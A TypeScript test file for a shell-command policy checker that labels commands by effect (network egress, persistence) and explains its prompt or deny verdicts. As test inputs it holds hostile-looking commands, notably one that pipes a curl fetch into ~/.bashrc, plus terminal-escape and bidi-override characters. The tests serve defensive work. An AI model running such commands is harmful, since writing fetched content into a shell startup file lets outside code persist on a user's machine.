import { describe, expect, it } from 'vitest';
import { type AssessContext, assessCommand, decide, type PolicyConfig } from '../policy/index.ts';
import { checkToJson, renderCheck } from './check.ts';

const context: AssessContext = {
  cwd: '/home/dev/app',
  home: '/home/dev',
  workspaces: ['/home/dev/app'],
  facts: { realpath: (path) => path, which: () => undefined },
};
const policy: PolicyConfig = { classes: {}, deny: [], prompt: [], allow: [] };
const render = (command: string, rules: Partial<PolicyConfig> = {}): string => {
  const assessment = assessCommand(command, context);
  return renderCheck(command, assessment, decide(assessment, { ...policy, ...rules }));
};

describe('renderCheck', () => {
  it('names verdict, effect, place, words and opening', () => {
    expect(render('ls; curl -s https://example.test/x')).toBe(
      [
        'prompt: the command runs only after a person said yes',
        'effects: network_egress',
        '- network_egress: curl reaches another host',
        '    at 5-34: curl -s https://example.test/x',
        '    words: curl -s https://example.test/x',
        '    a yes would open the network to example.test',
        'a yes would open, for this one run:',
        '  the network to example.test',
      ].join('\n'),
    );
  });

  it('names the rule that decided', () => {
    const text = render('git push', { deny: [{ argv: ['git', ['push', 'fetch'], '**'], reason: 'no network today' }] });
    expect(text).toContain('decided by the deny rule: git [push|fetch] ** (no network today)');
  });

  it('shows characters that a terminal would hide or obey', () => {
    const text = render('\u001b[2Jfoo\u202e; echo "a\u200bb"');
    expect(text).toContain('\\u{1b}[2Jfoo\\u{202e}');
    expect(text).not.toMatch(/[\u001b\u202e\u200b]/);
  });

  it('says where text that is no command goes wrong', () => {
    expect(render('echo "x')).toMatch(/^deny: .*\n.*\nnot understood: .*unterminated double quote, at character \d+/);
  });

  it('counts what it does not print', () => {
    const text = render(Array.from({ length: 50 }, (_, i) => `frob${i}`).join(';'));
    expect(text).toContain('and 10 more findings');
  });
});

describe('checkToJson', () => {
  it('is the whole judgement, and plain JSON', () => {
    const command = 'cat <(curl https://example.test) > ~/.bashrc';
    const assessment = assessCommand(command, context);
    const decision = decide(assessment, policy);
    const data = checkToJson(command, assessment, decision);
    expect(JSON.parse(JSON.stringify(data))).toEqual(data);
    expect(data).toMatchObject({ command, verdict: 'prompt', effects: ['network_egress', 'persistence'], git_config_write: false });
  });
});
